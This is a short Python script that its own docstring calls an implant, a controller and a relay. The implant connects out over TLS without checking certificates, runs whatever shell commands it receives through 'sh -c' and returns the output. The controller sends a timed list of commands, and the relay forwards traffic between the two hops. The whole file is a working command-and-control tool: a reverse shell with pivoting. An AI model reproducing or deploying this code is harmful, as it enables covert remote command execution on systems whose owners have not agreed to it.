"""An implant, who controls it, and a relay between them.

Usage: control.py serve PORT CERTIFICATE KEY SCRIPT     (SCRIPT is JSON: a list of [seconds to wait, command])
       control.py implant ADDRESS PORT
       control.py relay PORT ADDRESS PORT
"""

import json
import socket
import ssl
import subprocess
import sys
import threading
import time


def serve(port, certificate, key, script):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    connection, _ = socket.create_server(("", int(port))).accept()
    secure = context.wrap_socket(connection, server_side=True)
    for seconds, command in json.loads(script):
        time.sleep(seconds)
        secure.sendall(command.encode() + b"\n")
        secure.recv(65536)
    secure.close()


def implant(address, port):
    secure = ssl._create_unverified_context().wrap_socket(socket.create_connection((address, int(port))))
    while command := secure.recv(4096):
        done = subprocess.run(["sh", "-c", command.decode()], capture_output=True, timeout=30)
        secure.sendall(done.stdout[:3000] or b"done")


def relay(port, address, onward):
    near, _ = socket.create_server(("", int(port))).accept()
    far = socket.create_connection((address, int(onward)))

    def pass_on(a, b):
        while data := a.recv(65536):
            b.sendall(data)
        b.shutdown(socket.SHUT_WR)

    back = threading.Thread(target=pass_on, args=(far, near))
    back.start()
    pass_on(near, far)
    back.join()


{"serve": serve, "implant": implant, "relay": relay}[sys.argv[1]](*sys.argv[2:])
